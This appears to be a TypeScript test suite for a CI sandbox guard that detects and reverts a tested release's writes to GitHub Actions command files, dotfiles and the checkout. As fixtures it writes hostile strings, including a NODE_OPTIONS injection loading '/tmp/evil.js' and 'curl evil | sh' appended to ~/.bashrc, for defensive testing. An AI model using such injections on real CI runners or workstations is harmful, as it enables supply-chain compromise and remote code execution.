import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { appendFileSync, linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, describe, it } from 'node:test'
import { engineEnv, RUN_MARKER } from '../../src/host/env.js'
import { FileCommandGuard } from '../../src/host/file-commands.js'
import { FolderWatch, outsideWatch } from '../../src/host/outside.js'

const dir = mkdtempSync(path.join(os.tmpdir(), 'outside-test-'))
after(() => rmSync(dir, { recursive: true, force: true }))

function commandFiles(name: string): Record<'GITHUB_ENV' | 'GITHUB_OUTPUT' | 'GITHUB_STATE', string> {
  const at = path.join(dir, name)
  mkdirSync(at)
  const files = { GITHUB_ENV: path.join(at, 'set_env'), GITHUB_OUTPUT: path.join(at, 'set_output'), GITHUB_STATE: path.join(at, 'save_state') }
  for (const file of Object.values(files)) writeFileSync(file, '')
  return files
}

describe("the job's file commands", () => {
  it("keeps the action's own lines and takes out, naming them, those the release added", () => {
    const files = commandFiles('a')
    writeFileSync(files.GITHUB_STATE, 'from-the-runner=1\n')
    const guard = new FileCommandGuard(files)
    guard.write('GITHUB_OUTPUT', 'result', 'passed')
    const own = readFileSync(files.GITHUB_OUTPUT, 'utf8')
    assert.match(own, /^result<<ghadelimiter_[0-9a-f-]{36}\npassed\nghadelimiter_[0-9a-f-]{36}\n$/)
    assert.equal(guard.check(), undefined)

    appendFileSync(files.GITHUB_ENV, 'NODE_OPTIONS=--require=/tmp/evil.js\nX=1\n')
    appendFileSync(files.GITHUB_OUTPUT, 'result=passed\n')
    assert.equal(
      guard.check(),
      "the release wrote to GITHUB_ENV: NODE_OPTIONS=--require=/tmp/evil.js (and 1 more line); the release wrote to GITHUB_OUTPUT: result=passed (restored to what the action wrote: nothing of it reaches the job's next steps)"
    )
    assert.equal(readFileSync(files.GITHUB_ENV, 'utf8'), '')
    assert.equal(readFileSync(files.GITHUB_OUTPUT, 'utf8'), own)
    assert.equal(readFileSync(files.GITHUB_STATE, 'utf8'), 'from-the-runner=1\n', "what was there before is the runner's and stays")
    assert.equal(guard.check(), undefined, 'each breach is named once')
  })

  it('a line slipped in before one of the action is taken out when the action writes, and named at the next check', () => {
    const files = commandFiles('b')
    const guard = new FileCommandGuard(files)
    appendFileSync(files.GITHUB_STATE, 'sandbox=/elsewhere\n')
    guard.write('GITHUB_STATE', 'sandbox', '/tmp/ktx-smoke-x')
    assert.doesNotMatch(readFileSync(files.GITHUB_STATE, 'utf8'), /elsewhere/)
    assert.match(guard.check() ?? '', /^the release wrote to GITHUB_STATE: sandbox=\/elsewhere/)
    writeFileSync(files.GITHUB_STATE, 'all gone')
    assert.match(guard.check() ?? '', /^the release changed GITHUB_STATE \(8 bytes where the action wrote \d+\)/)
  })
})

describe('what lies outside the sandbox', () => {
  const git = (cwd: string, ...args: string[]): void => {
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { cwd, stdio: 'ignore' })
  }

  it('names the first paths that changed in the checkout, the actions and HOME; the sandbox and untouched files are not named', async () => {
    const checkout = path.join(dir, 'work', 'repo', 'repo')
    const actions = path.join(dir, 'work', '_actions')
    const home = path.join(dir, 'home')
    const temp = path.join(checkout, 'tmp-inside')
    for (const d of [checkout, path.join(actions, 'actions', 'cache', 'v4'), path.join(home, '.config', 'gh'), temp]) mkdirSync(d, { recursive: true })
    writeFileSync(path.join(checkout, 'a.txt'), 'a\n')
    writeFileSync(path.join(checkout, '.gitignore'), 'tmp-inside/\n')
    git(checkout, 'init', '-q')
    git(checkout, 'add', '.')
    git(checkout, 'commit', '-q', '-m', 'x')
    writeFileSync(path.join(actions, 'actions', 'cache', 'v4', 'index.js'), 'ok\n')
    writeFileSync(path.join(home, '.bashrc'), '# rc\n')
    writeFileSync(path.join(home, '.config', 'gh', 'hosts.yml'), 'x\n')
    writeFileSync(path.join(home, 'notes.txt'), 'not a dotfile\n')

    const watch = outsideWatch({ workspace: checkout, actionsDir: actions, home, ignore: [temp] })
    assert.equal(await watch.check(), undefined)
    writeFileSync(path.join(temp, 'scratch'), 'the run may write here\n')
    writeFileSync(path.join(home, 'notes.txt'), 'changed, but no dotfile\n')
    assert.equal(await watch.check(), undefined)

    appendFileSync(path.join(checkout, 'a.txt'), 'pwned\n')
    writeFileSync(path.join(checkout, 'new.js'), 'x\n')
    appendFileSync(path.join(actions, 'actions', 'cache', 'v4', 'index.js'), 'evil\n')
    appendFileSync(path.join(home, '.bashrc'), 'curl evil | sh\n')
    // Same size, new mtime: still a change.
    utimesSync(path.join(home, '.config', 'gh', 'hosts.yml'), new Date(), new Date(Date.now() + 5000))
    assert.equal(
      await watch.check(),
      `the release changed files outside its sandbox, in the checkout (${checkout}): a.txt (modified), new.js (added); in the job's actions (${actions}): actions/cache/v4/index.js (modified); in the runner user's dotfiles (${home}): ~/.bashrc (modified), ~/.config/gh/hosts.yml (modified)`
    )
    assert.equal(await watch.check(), undefined, 'each change is named once')
    rmSync(path.join(checkout, 'new.js'))
    assert.equal(await watch.check(), `the release changed files outside its sandbox, in the checkout (${checkout}): new.js (removed)`)
    watch.close()
  })

  /** A git checkout with one file, and a watch of it alone. */
  function checkoutWatch(name: string): { checkout: string; watch: ReturnType<typeof outsideWatch> } {
    const checkout = path.join(dir, name, 'repo')
    mkdirSync(checkout, { recursive: true })
    writeFileSync(path.join(checkout, 'README.md'), '# x\n')
    git(checkout, 'init', '-q')
    git(checkout, 'add', '.')
    git(checkout, 'commit', '-q', '-m', 'x')
    return { checkout, watch: outsideWatch({ workspace: checkout, ignore: [] }) }
  }

  it('a file created and removed again between two looks is no change, whoever wrote it; it is a note', async () => {
    const { checkout, watch } = checkoutWatch('transient')
    // As `pnpm store path` does in the folder it runs in, to test hard links to its store.
    const probe = path.join(checkout, '_tmp_4242_0123456789abcdef0123456789abcdef')
    writeFileSync(probe, '')
    rmSync(probe)
    // A hard link made to a file elsewhere (the OS reports its link count changed) is no change of it either.
    linkSync(path.join(checkout, 'README.md'), path.join(dir, 'transient-link'))
    const notes: string[] = []
    assert.equal(await watch.check(line => notes.push(line)), undefined)
    assert.deepEqual(notes, [
      `outside the sandbox, in the checkout (${checkout}), created and removed again, so no change: _tmp_4242_0123456789abcdef0123456789abcdef`
    ])
    watch.close()
  })

  it('a new folder is named as the files inside it, the first ten and a count, relative to the checkout', async () => {
    const { checkout, watch } = checkoutWatch('new-folder')
    mkdirSync(path.join(checkout, '.github', 'workflows'), { recursive: true })
    writeFileSync(path.join(checkout, '.github', 'workflows', 'ktx-pwned.yml'), 'on: push\n')
    assert.equal(await watch.check(), `the release changed files outside its sandbox, in the checkout (${checkout}): .github/workflows/ktx-pwned.yml (added)`)
    mkdirSync(path.join(checkout, 'many'))
    for (let i = 0; i < 12; i++) writeFileSync(path.join(checkout, 'many', `f${String(i).padStart(2, '0')}.js`), '')
    mkdirSync(path.join(checkout, 'empty'))
    const found = (await watch.check()) ?? ''
    assert.match(found, new RegExp(`in the checkout \\(${checkout}\\): empty/ \\(added\\), many/f00\\.js \\(added\\), .*many/f08\\.js \\(added\\) and 3 more$`))
    watch.close()
  })

  it('where the OS will not watch, the same net changes are found by comparing the files', async () => {
    const root = path.join(dir, 'polled')
    mkdirSync(path.join(root, 'src'), { recursive: true })
    writeFileSync(path.join(root, 'src', 'a.ts'), 'a\n')
    // A folder that cannot be watched makes the whole watch a polled one.
    const broken = new FolderWatch('the workspace', root, [root, path.join(root, 'missing-folder')], () => true)
    writeFileSync(path.join(root, 'src', 'a.ts'), 'changed\n')
    mkdirSync(path.join(root, '.github', 'workflows'), { recursive: true })
    writeFileSync(path.join(root, '.github', 'workflows', 'x.yml'), 'x\n')
    assert.deepEqual(broken.changes(), {
      changes: [
        { path: path.join('.github', 'workflows', 'x.yml'), kind: 'added' },
        { path: path.join('src', 'a.ts'), kind: 'modified' }
      ],
      transient: []
    })
    assert.deepEqual(broken.changes(), { changes: [], transient: [] })
    broken.close()
  })
})

describe("the environment of a front end that dropped the shell's", () => {
  it('holds the sealed set, what env-passthrough names and what it keeps; no token, no input, no marker', () => {
    const env = engineEnv(
      {
        PATH: '/bin',
        HOME: '/h',
        ACTIONS_RUNTIME_TOKEN: 't',
        INPUT_TARBALL: 'x.tgz',
        GITHUB_OUTPUT: '/o',
        RUNNER_TEMP: '/r',
        NODE_AUTH_TOKEN: 'n',
        [RUN_MARKER]: 'x'
      },
      ['NODE_AUTH_TOKEN'],
      ['RUNNER_TEMP']
    )
    assert.deepEqual(env, { PATH: '/bin', HOME: '/h', NODE_AUTH_TOKEN: 'n', RUNNER_TEMP: '/r' })
  })
})
